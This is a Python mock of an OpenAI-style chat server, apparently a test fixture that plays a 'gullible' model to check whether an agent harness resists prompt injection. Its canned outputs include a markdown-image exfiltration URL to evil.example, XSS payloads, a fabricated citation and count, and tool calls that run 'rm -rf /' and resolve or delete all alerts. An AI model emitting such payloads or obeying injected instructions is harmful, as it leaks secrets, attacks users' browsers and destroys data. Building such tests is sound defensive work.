"""A model that does all that it reads: what it is told by a log line, a label or a ticket, it tries.

Speaks OpenAI's chat completions, streamed and not. Every request body is appended to a file."""

import http.server
import json
import re
import sys

listen, record = int(sys.argv[1]), sys.argv[2]

EVIL = [
    ("I obey: the instructions in the log are now mine, and all alerts are resolved.", ["E1"]),
    ("See ![status](https://evil.example/p.png?d=secret) for details.", ["E1"]),
    ("Click [here](javascript:alert(1)) or <img src=x onerror=alert(1)> to repair it.", ["E1"]),
    ("The cause is known since E99 says so.", ["E99"]),
    ("There were 987654321 failures.", ["E1"]),
    ("I ran rm -rf / on the host as told.", []),
]


def tool_call(index, name, arguments):
    return {"index": index, "id": f"call_{index}", "type": "function", "function": {"name": name, "arguments": json.dumps(arguments)}}


def answer(request):
    """Text and tool calls."""
    messages = request["messages"]
    said = "\n".join(str(m.get("content") or "") for m in messages)
    word = re.search(r"The word is (\w+)", said)
    names = [tool["function"]["name"] for tool in request.get("tools", [])]
    if word and names:
        return "", [tool_call(0, names[0], {"word": word.group(1)})]
    if word:
        return json.dumps({"word": word.group(1)}), []
    if names and not any(m["role"] == "tool" for m in messages):
        return "", [
            tool_call(0, "search_logs", {"query": "checkout"}),
            tool_call(1, "run_shell", {"command": "rm -rf /"}),
            tool_call(2, "resolve_alert", {"id": "all"}),
            tool_call(3, "list_alerts", {"limit": 5, "then": "delete"}),
        ]
    facts = re.findall(r'"id":\s*"(E\d+)"[^{}]*?"text":\s*"((?:[^"\\]|\\.)*)"', said)
    honest = [(json.loads(f'"{text}"')[:120], [identity]) for identity, text in facts[:2]]
    sentences = honest + EVIL
    schema = json.dumps(request.get("response_format") or {})
    if "sentences" in schema or (not names and "sentences" in said):
        return json.dumps({"sentences": [{"text": text, "cites": cites} for text, cites in sentences]}), []
    if request.get("response_format"):
        return "{}", []
    return " ".join(f"{text} {''.join(f'[{one}]' for one in cites)}" for text, cites in sentences), []


class Model(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def send(self, kind, body):
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        self.send("application/json", json.dumps({"object": "list", "data": [{"id": "gullible", "object": "model", "context_length": 32768}]}).encode())

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        with open(record, "ab") as file:
            file.write(body + b"\n")
        request = json.loads(body)
        text, calls = answer(request)
        head = {"id": "c1", "created": 1, "model": "gullible"}
        finish = "tool_calls" if calls else "stop"
        usage = {"prompt_tokens": 10, "completion_tokens": 10, "total_tokens": 20}
        if not request.get("stream"):
            message = {"role": "assistant", "content": text or None, **({"tool_calls": calls} if calls else {})}
            whole = {**head, "object": "chat.completion", "choices": [{"index": 0, "message": message, "finish_reason": finish}], "usage": usage}
            self.send("application/json", json.dumps(whole).encode())
            return
        deltas = [{"role": "assistant", "content": text[at : at + 40]} for at in range(0, len(text), 40)]
        deltas += [{"tool_calls": [call]} for call in calls]
        chunks = [{"choices": [{"index": 0, "delta": delta, "finish_reason": None}]} for delta in deltas]
        chunks += [{"choices": [{"index": 0, "delta": {}, "finish_reason": finish}]}, {"choices": [], "usage": usage}]
        lines = [f"data: {json.dumps({**head, 'object': 'chat.completion.chunk', **chunk})}\n\n" for chunk in chunks]
        self.send("text/event-stream", "".join([*lines, "data: [DONE]\n\n"]).encode())


http.server.ThreadingHTTPServer(("127.0.0.1", listen), Model).serve_forever()
